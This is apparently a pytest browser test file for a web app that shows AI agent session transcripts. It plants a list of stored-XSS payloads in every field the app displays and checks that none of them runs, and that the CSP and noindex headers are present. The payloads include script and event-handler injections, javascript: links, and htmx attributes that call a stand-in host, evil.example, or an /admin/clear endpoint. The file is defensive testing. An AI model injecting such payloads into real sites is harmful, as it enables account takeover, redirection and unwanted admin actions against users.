"""Stored XSS: known payloads in every field an agent or user writes, opened on
every page that shows them. Proof that nothing ran: each payload would call
``alert`` (a dialog, which the page fixture records), set ``window.__xss``, or
reach ``evil.example`` (a foreign request, which the fixture aborts and records)."""

from __future__ import annotations

import base64
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.browser.conftest import LiveServer, app_on, serve
from webapp.sessions import Message

pytestmark = pytest.mark.browser

SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()

PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    '<img src=x onerror="window.__xss=1;alert(1)">',
    "<img src=https://evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='  javascript:alert(1)'>spaced</a>",
    '<a href="jav&#x09;ascript:alert(1)">entity</a>',
    "[md link](javascript:alert(1))",
    "[md data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![md image](https://evil.example/img.png)",
    "![md img js](javascript:alert(1))",
    f"![svg data](data:image/svg+xml;base64,{SVG})",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>go</button></form>",
    "<div hx-get=https://evil.example/x hx-trigger=load>hx</div>",
    '<div hx-get=/admin/clear hx-trigger=load hx-vals=\'{"confirm":"CLEAR"}\'>hx2</div>',
    "<button hx-on:click=alert(1)>hx-on</button>",
    "<div hx-on::load=alert(1)>hx-on load</div>",
    "<div data-hx-get=https://evil.example/y data-hx-trigger=load>data-hx</div>",
    "<div hx-swap-oob=true id=session-header>oob</div>",
    "<img src=x hx-get=https://evil.example/z hx-trigger=load>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{7*7}}{% raw %}{% endraw %}<script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "```html\n<script>alert(1)</script>\n```",
    "<x onmouseover=alert(1) style=position:fixed;inset:0>cover</x>",
]


def store_payloads(app: Any) -> list[str]:
    """A session per payload (request, error, context, messages, tags); return ids."""
    manager = app.extensions["sessionboard.manager"]
    ids = []
    for i, payload in enumerate(PAYLOADS):
        session = manager.create(payload, {"payload": payload, payload[:60]: i}, expires_at=None)
        manager.set_running(session.id)
        manager.append_messages(
            session.id,
            [
                Message("user", payload),
                Message("system", payload, meta={"kind": "bash"}),  # bash-mode output
                Message("assistant", "long " + payload, summary=payload),
                # the model's name in the turn's cost breakdown
                Message(
                    "assistant", payload, meta={"model": payload, "usage": {"input_tokens": 7}}
                ),
                Message(
                    "assistant",
                    payload,
                    meta={
                        "kind": "tool_use",
                        "tool_name": payload,
                        "tool_input": {"command": payload},
                    },
                ),  # fmt: skip
                Message("tool", payload, meta={"kind": "tool_result", "is_error": True}),
                Message("assistant", payload, meta={"kind": "thinking"}),
                Message(
                    "user",
                    payload,
                    meta={"kind": "image", "media_type": "image/svg+xml", "data": SVG},
                ),  # fmt: skip
                Message("user", payload, meta={"kind": "note", "author": payload}),
                *tool_calls(payload),
            ],
        )
        if i % 2:
            manager.set_failed(session.id, payload)
        else:
            manager.set_completed(session.id, payload)
        with app.test_request_context():
            from webapp.review import service

            try:
                service.add_tag(session.id, payload[:30])
            except ValueError:
                pass
        ids.append(session.id)
    return ids


@pytest.fixture(scope="module")
def payload_database(
    sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, list[str]]:
    """A database file holding the payloads (``store_payloads``, written once per
    test process) and the ids of their sessions."""
    folder = tmp_path_factory.mktemp("payloads")
    database = folder / "payloads.db"
    shutil.copyfile(sqlite_template, database)
    with app_on(database, folder / "instance") as app:
        ids = store_payloads(app)
    return database, ids


@pytest.fixture
def payload_ids(payload_database: tuple[Path, list[str]]) -> list[str]:
    """The ids of the payloads' sessions, one a payload, in ``PAYLOADS``' order."""
    return payload_database[1]


@pytest.fixture
def payload_server(
    payload_database: tuple[Path, list[str]], tmp_path: Path
) -> Iterator[LiveServer]:
    """``live_server`` on a copy of the payloads' database (this test's own)."""
    database = tmp_path / "live.db"
    shutil.copyfile(payload_database[0], database)
    yield from serve(database, tmp_path)


def tool_calls(payload: str) -> list[Message]:
    """Calls of every renderer with the payload in their inputs (old_string and
    new_string, commands, todo items, file paths, URLs, tool names) and outputs,
    each with its result."""
    inputs: list[tuple[str, dict[str, Any]]] = [
        ("Edit", {"file_path": payload, "old_string": payload, "new_string": payload + "!"}),
        (
            "MultiEdit",
            {"file_path": payload, "edits": [{"old_string": "a", "new_string": payload}]},
        ),
        ("Write", {"file_path": payload, "content": payload}),
        ("Bash", {"command": payload, "description": payload}),
        ("TodoWrite", {"todos": [{"content": payload, "status": payload}]}),
        ("TaskCreate", {"subject": payload}),
        ("TaskUpdate", {"taskId": payload, "status": payload}),
        ("Read", {"file_path": payload}),
        ("Grep", {"pattern": payload, "path": payload}),
        ("WebFetch", {"url": payload, "prompt": payload}),
        ("WebSearch", {"query": payload}),
        ("Agent", {"description": payload, "prompt": payload, "subagent_type": payload}),
        (payload, {payload: payload}),
    ]
    messages: list[Message] = []
    for n, (name, tool_input) in enumerate(inputs):
        tuid = f"toolu_{n}"
        use = {"kind": "tool_use", "tool_name": name, "tool_input": tool_input, "tool_use_id": tuid}
        result = {"kind": "tool_result", "tool_use_id": tuid, "is_error": n % 2 == 0}
        if name == "Agent":  # a subagent's report: markdown, with stored HTML
            result["child_session_id"] = f"child-{n}"
        messages += [Message("assistant", "{}", meta=use), Message("tool", payload, meta=result)]
    return messages


def assert_inert(page: Any, page_log: Any, where: str) -> None:
    assert page.evaluate("window.__xss") is None, where
    assert page_log.dialogs == [], where
    assert page_log.foreign_requests == [], where
    assert page_log.page_errors == [], where


def test_stored_payloads_stay_inert_on_every_page(
    payload_server: LiveServer, payload_ids: list[str], page: Any, page_log: Any
) -> None:
    assert len(PAYLOADS) >= 40
    live_server, ids = payload_server, payload_ids
    live_server.login(page, "admin")
    pages = ["/sessions", "/sessions?status=failed", "/stats", "/admin", "/review"]
    pages += ["/review?status=failed", "/review?status=completed"]
    pages += [f"/sessions/{sid}" for sid in ids]
    for path in pages:
        live_server.get(page, path)
        assert_inert(page, page_log, path)
    # The text is there, shown as text.
    live_server.get(page, f"/sessions/{ids[0]}")
    assert PAYLOADS[0] in page.locator("#session-header").inner_text()
    assert page.locator("#transcript script, #transcript iframe, #transcript svg").count() == 0
    assert page.locator("[hx-get*='evil'], [data-hx-get]").count() == 0
    # Open every collapsed card too: nothing inside runs when shown.
    for summary in page.locator("#transcript details > summary").all():
        summary.click()
    assert_inert(page, page_log, "opened cards")
    # Every tool renderer, opened by the toggles, with every payload.
    for sid in ids:
        live_server.get(page, f"/sessions/{sid}?tools=1&thinking=1&hooks=1")
        assert page.locator("#transcript [data-call]").count() >= 13
        assert_inert(page, page_log, f"tool renderers of {sid}")
    assert page.locator("#transcript script, #transcript iframe, #transcript svg").count() == 0
    assert live_server.manager.stats()  # the hx payload aimed at /admin/clear did nothing


def test_stored_html_of_the_payloads_stays_inert(
    payload_server: LiveServer, payload_ids: list[str], page: Any, page_log: Any
) -> None:
    """The same payloads once the background pass has stored their messages' HTML
    (prompts, notes, answers, the subagent's report): the pages draw the stored
    HTML, and nothing in it runs."""
    from webapp.prerender import Prerenderer
    from webapp.rendering import VERSION

    live_server, ids = payload_server, payload_ids
    store = live_server.manager.store
    done = Prerenderer(store).run_pass()
    assert done.rendered >= 5 * len(PAYLOADS)
    assert store.render_counts(VERSION) == (done.rendered, done.rendered)
    live_server.login(page, "admin")
    for sid in ids:
        live_server.get(page, f"/sessions/{sid}?tools=1&thinking=1&hooks=1")
        assert page.locator("#transcript .md").count() >= 4
        assert page.locator("#transcript script, #transcript iframe, #transcript svg").count() == 0
        assert page.locator("#transcript [hx-get], #transcript [data-hx-get]").count() == 0
        assert_inert(page, page_log, f"stored HTML of {sid}")


def test_untrusted_containers_carry_hx_ignore(live_server: Any, page: Any) -> None:
    session = live_server.manager.create("x")
    live_server.manager.append_message(session.id, Message("user", "hello"))
    live_server.login(page, "viewer")
    live_server.get(page, f"/sessions/{session.id}")
    for selector in ("#transcript .prompt-text .md", "#session-header .untrusted"):
        assert page.locator(selector).get_attribute("hx-ignore") is not None
    csp = page.evaluate("fetch(location.href).then(r => r.headers.get('content-security-policy'))")
    assert "'unsafe-inline'" not in csp and "'unsafe-eval'" not in csp


def test_stored_payloads_stay_inert_on_shared_pages(
    payload_server: LiveServer, payload_ids: list[str], page: Any, page_log: Any
) -> None:
    """The shared page (no login), redacted and not, with comments: nothing runs, the
    headers and the meta say noindex, no form, and no link leaves the page."""
    from datetime import timedelta

    from webapp.review import service as review
    from webapp.shares import links

    live_server, ids = payload_server, payload_ids
    shared = []
    with live_server.app.test_request_context():
        for i, sid in enumerate(ids):
            review.add_comment(sid, PAYLOADS[i])
            for redact in (False, True):
                token = links.create(
                    sid, expires_in=timedelta(days=1), redact=redact, comments=True, actor="t"
                )[1]
                shared.append(f"/s/{token}")
    for path in shared:
        response = live_server.get(page, path + "?tools=1&thinking=1&hooks=1")
        assert response.status == 200, path
        headers = response.headers
        assert "script-src 'self'" in headers["content-security-policy"]
        assert "'unsafe-inline'" not in headers["content-security-policy"]
        assert headers["x-robots-tag"] == "noindex, nofollow"
        assert headers["referrer-policy"] == "no-referrer"
        assert page.locator('meta[name="robots"][content*="noindex"]').count() == 1
        assert page.locator("form, textarea, input:not([type=checkbox])").count() == 0
        assert page.locator("#transcript script, #transcript iframe, #transcript svg").count() == 0
        targets = page.evaluate(
            "[...document.querySelectorAll('a[href], [hx-get], [hx-post]')]"
            ".map(e => new URL(e.getAttribute('href') || e.getAttribute('hx-get')"
            " || e.getAttribute('hx-post'), location.href))"
            ".filter(u => u.origin !== location.origin || u.pathname !== location.pathname)"
            ".filter(u => !u.pathname.startsWith(location.pathname + '/turns'))"
            ".map(u => u.href)"
        )
        assert targets == [], (path, targets)
        assert_inert(page, page_log, path)
    # Open every collapsed card too, on the last (redacted) page.
    live_server.get(page, shared[-1])
    opened = 0
    for summary in page.locator("#transcript details > summary").all():
        if summary.is_visible():  # (one inside a closed card opens with it)
            summary.click()
            opened += 1
    assert opened > 0
    assert_inert(page, page_log, "opened cards on a shared page")
